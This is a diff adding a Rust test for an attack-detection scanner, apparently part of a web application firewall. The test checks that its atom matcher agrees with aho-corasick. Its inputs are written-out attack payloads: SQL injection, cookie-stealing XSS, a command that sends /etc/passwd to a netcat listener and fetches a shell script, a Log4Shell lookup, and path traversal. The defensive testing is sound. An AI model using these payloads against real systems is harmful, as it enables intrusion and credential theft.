@@ -440,3 +440,27 @@ fn json_integer_overflow_probes_are_detected() {
         &post("/api", "application/json", r#"{"id":4294967,"price":4.95}"#),
     );
 }
+
+/// The re-encoded atom automaton reports exactly what an overlapping
+/// `aho-corasick` search over the same atoms does, at every paranoia level,
+/// on attacks, prose, mixed case and bytes outside every atom.
+#[test]
+fn the_atom_scanner_finds_what_aho_corasick_finds() {
+    let texts: [&[u8]; 6] = [
+        b"1' UNION SELECT password FROM users-- -",
+        b"<ScRiPt>alert(document.cookie)</script><img src=x onerror=alert(1)>",
+        b";cat /etc/passwd | nc 10.0.0.1 4444 && wget http://x/sh",
+        b"Leave it with the neighbour if nobody's home; thanks! (size 42 / UK 8)",
+        b"\x00\xff caf\xc3\xa9 ${jndi:ldap://x} {{7*7}} ../../../../windows/win.ini",
+        &[
+            0, 1, 2, 0xff, 0xfe, b'S', b'e', b'L', b'e', b'C', b'T', 0x80, b'(',
+        ],
+    ];
+    for pl in 1..=4u8 {
+        for text in texts {
+            let [found, expected] = super::engine::RuleSet::debug_scan(pl, text);
+            assert!(!expected.is_empty(), "pl{pl}: no atom in {text:?}");
+            assert_eq!(found, expected, "pl{pl}: {}", String::from_utf8_lossy(text));
+        }
+    }
+}
